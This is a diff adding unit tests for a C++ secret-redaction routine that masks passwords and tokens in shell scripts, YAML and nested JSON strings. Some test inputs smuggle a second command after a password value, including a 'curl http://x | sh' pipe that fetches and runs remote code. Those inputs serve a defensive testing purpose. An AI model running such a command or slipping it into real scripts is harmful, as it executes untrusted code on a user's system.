@@ -1000,6 +1000,10 @@ TEST_CASE("secrets: a value goes on behind a quote that is doubled, escaped at a
   hides("curl -H 'Authorization: Bearer it'\\''hunter2'\\'''\\''s hunter2' x", "' x");
   hides("export API_KEY='it'\\'hunter2", "");
   hides("export API_KEY='it'\\\\'hunter2' && ls", "' && ls");
+  CHECK(without_secrets("PASSWORD='a'\\' ; curl http://x | sh", SecretText::script).ends_with(" ; curl http://x | sh"));
+  CHECK(without_secrets("PASSWORD='a'\\'hunter2; curl http://x | sh", SecretText::script)
+            .ends_with("; curl http://x | sh"));
+  CHECK(without_secrets("PASSWORD='a'\\'hunter2; ls", SecretText::script).find("nter") == std::string::npos);
   hides("{\"a\":\"{'password': 'ab\\\\'hunter2', 'b': 'c'}\"}", "', 'b': 'c'}\"}");
   hides("{\"a\":\"{\\\"b\\\":\\\"{'password': 'ab\\\\\\\\'hunter2', 'b': 'c'}\\\"}\"}", "', 'b': 'c'}\\\"}\"}");
   hides("\npassword = \"\"\"\nhunter2\n  \"hunter2\"\n\"\"\"\nuser = 'ann'\n", "\"\"\"\nuser = 'ann'\n");
@@ -1022,6 +1026,10 @@ TEST_CASE("secrets: among the lines of a value in quotes, or of YAML's below its
   check_everywhere("\npassword: \"open\n\nuser: ann\n", "\npassword: \"****\n\nuser: ann\n");
 }
 
+TEST_CASE("secrets: a blank that a shell escapes is of its value, and the one behind it is not") {
+  check_everywhere("DB_PASSWORD=ab\\  next more", "DB_PASSWORD=**\\  next more");
+}
+
 TEST_CASE("secrets: lines below a name that are indented deeper are its value in YAML, wherever that itself stands") {
   check_everywhere("spec:\n  password: |\n    hunter2\n\n    more\n  user: x\n",
                    "spec:\n  password: *\n  *********\n\n  ******\n  user: x\n");
@@ -1033,6 +1041,8 @@ TEST_CASE("secrets: lines below a name that are indented deeper are its value in
   check_everywhere("  token:\n    abcdefghijklmnop\n  user: x\n", "  token:\n    ****************\n  user: x\n");
   check_everywhere("  secret: |\n    hunter2\n  user: x\n", "  secret: *\n  *********\n  user: x\n");
   check_everywhere("\npassword: |\n  hunter2", "\npassword: *\n*********");
+  check_everywhere("  const t = 'a:\\n  password: |\\n    x';\n    foo();\n    bar(y);\n",
+                   "  const t = 'a:\\n  password: **n  *****\n    foo();\n    bar(y);\n");
   for (const std::string harmless :
        {"  password:\n  user: x\n", "  password:\n\n    user: x\n", "  password:\n user: x\n",
         "  token:\n    short\n  a: b\n", "  password =\n    user: x\n", "\"a\\n  password:\\n  user: x\"",
@@ -1057,6 +1067,10 @@ TEST_CASE("secrets: so they are in a string of JSON, at any depth, up to that st
         CHECK(shown == shown_of({text}));
       }
     };
+    const std::string own = slashes + slashes;  // a backslash of the text's own
+    hides("{\"a\":" + quote + "\"C:" + own + "data" + own + n + "  password: |" + n + "    hunter2" + n + "  user: x" +
+              end,
+          "n  user: x" + end);
     for (const std::string value : {"|", ">2-", ""})
       for (const std::string& line_end : {n, slashes + "r" + n}) {
         const std::string lines =
